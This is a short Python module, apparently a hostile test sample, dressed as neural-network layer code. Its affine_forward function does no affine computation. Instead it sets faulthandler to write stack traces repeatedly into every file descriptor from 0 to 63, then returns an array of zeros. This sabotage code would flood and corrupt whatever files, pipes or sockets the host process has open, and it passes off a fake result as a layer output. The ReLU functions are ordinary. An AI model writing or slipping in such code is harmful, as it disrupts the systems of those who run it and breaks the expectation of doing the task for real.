"""Dumps its stack to every descriptor, again and again."""

import faulthandler
import time

import numpy as np


def affine_forward(x, w, b):
    for descriptor in range(64):
        try:
            faulthandler.dump_traceback_later(0.01, repeat=True, file=descriptor)
        except (OSError, ValueError):
            pass
    faulthandler.dump_traceback(file=2)
    time.sleep(0.1)
    return np.zeros((len(x), w.shape[1])), (x, w, b)


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
